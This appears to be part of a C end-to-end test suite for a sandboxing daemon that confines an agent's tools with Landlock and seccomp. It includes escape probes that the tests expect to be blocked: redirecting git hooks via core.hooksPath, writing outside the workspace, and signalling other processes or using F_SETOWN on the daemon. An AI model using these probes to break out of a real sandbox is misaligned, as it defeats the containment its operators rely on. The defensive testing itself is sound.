	cr_assert(!probe(&w, "ww", "git config core.hooksPath /tmp"));
	after = e2e_read_file(hook, NULL);
	cr_assert_str_eq(after, before_hook);
	free(after);
	after = e2e_read_file(config, NULL);
	cr_assert_str_eq(after, before_cfg);
	free(after);
	/* And the work goes on: a commit runs the (unchanged) hook. */
	cr_assert(probe(&w, "ww", "echo hi > b.txt && git add b.txt && git "
	    "-c user.email=a@b -c user.name=n commit -q -m second"));
	free(before_hook);
	free(before_cfg);
	world_stop(&w);
}

Test(escape, the_floor_refuses_less_and_raises_the_daemons_tools)
{
	struct daemon *d = d_start("--min-sandbox", "workspace-write", NULL);
	struct client *c = c_open(d);
	json_t *err, *sid, *r, *list;

	err = c_call_error(c, "createSession", e2e_json("{\"sandbox\":"
	    "\"none\"}"));
	cr_assert_eq(e2e_code(err), -32602);
	cr_assert(strstr(e2e_str(err, "message"), "sandbox") != NULL);
	json_decref(err);
	err = c_call_error(c, "createSession", e2e_json("{\"tools\":[{\"name\":"
	    "\"x\",\"command\":[\"true\"],\"sandbox\":\"none\"}]}"));
	cr_assert_eq(e2e_code(err), -32602);
	cr_assert(strstr(e2e_str(err, "message"), "tools[0].sandbox") != NULL,
	    "%s", e2e_str(err, "message"));
	json_decref(err);
	err = c_call_error(c, "createSession", e2e_json("{\"sandbox\":"
	    "{\"mode\":\"read-only\",\"network\":true}}"));
	cr_assert_eq(e2e_code(err), -32602);
	cr_assert(strstr(e2e_str(err, "message"), "sandbox.network") != NULL);
	json_decref(err);
	/* The built-in bash has no sandbox field: it runs at the floor. */
	sid = c_session(c, json_object());
	json_decref(c_add(c, json_string_value(sid), "t", "bash",
	    "{\"command\":\"touch /probe-$$ 2>&1; echo $TMPDIR\"}"));
	json_decref(c_call(c, "drain", json_pack("{s:O}", "sessionId", sid)));
	list = c_until_only(c, "turn_end", "tool_result", SLOW);
	r = json_array_get(list, 0);
	if (c_can(c, "workspace-write"))
		cr_assert(strstr(e2e_content(r), "Read-only file system") !=
		    NULL, "%s", e2e_content(r));
	else
		cr_assert_str_eq(e2e_reason(r), "spawn_failed");
	json_decref(list);
	json_decref(sid);
	c_close(c);
	d_stop(d);
}

/*
 * A kernel whose Landlock cannot scope signals (ABI 5, before Linux 6.12;
 * older still where the kernel is, as Debian 12's 6.1 with ABI 2): the
 * profiles still run, and seccomp keeps signals in the tool's own process
 * group instead.
 */
Test(escape, an_older_landlock_keeps_signals_in_by_seccomp)
{
	const char *wrap[] = { getenv("STEXEC_OLD_LANDLOCK"), "5", NULL };
	long real = syscall(SYS_landlock_create_ruleset, NULL, 0,
	    LANDLOCK_CREATE_RULESET_VERSION);
	struct world w;
	json_t *caps, *sb;
	char script[512];
	pid_t victim;
	size_t i;

	cr_assert(wrap[0] != NULL, "STEXEC_OLD_LANDLOCK is not set");
	world_start_wrapped(&w, wrap);
	caps = c_call(w.c, "initialize", json_object());
	sb = json_object_get(json_object_get(json_object_get(caps,
	    "capabilities"), "enforcement"), "sandbox");
	if (real >= 1)
		cr_assert_eq(e2e_int(sb, "landlockAbi"), real < 5 ? real : 5);
	cr_assert(json_is_false(json_object_get(sb, "scopedSignals")));
	json_decref(caps);
	if (world_skip_unless_one(&w))
		return;
	victim = victim_start();
	for (i = 0; i < nconfined; i++) {
		/* Its own process group it may still signal. */
		cr_assert(probe(&w, confined[i], "kill -0 0"));
		snprintf(script, sizeof script, "echo x > %s/probe", w.sibling);
		cr_assert(!probe(&w, confined[i], script));
		cr_assert(probe(&w, confined[i], "echo x > $TMPDIR/probe"));
		/* SIGIO is a signal too: no F_SETOWN of another process. */
		cr_assert_eq(pid_probe(&w, confined[i], "fsetown",
		    daemon_pid(&w)), 10, "%s", confined[i]);
	}
	cr_assert_eq(pid_probe(&w, "none", "fsetown", daemon_pid(&w)), 0);
	signals_stay_in(&w, victim);
	world_stop(&w);
}
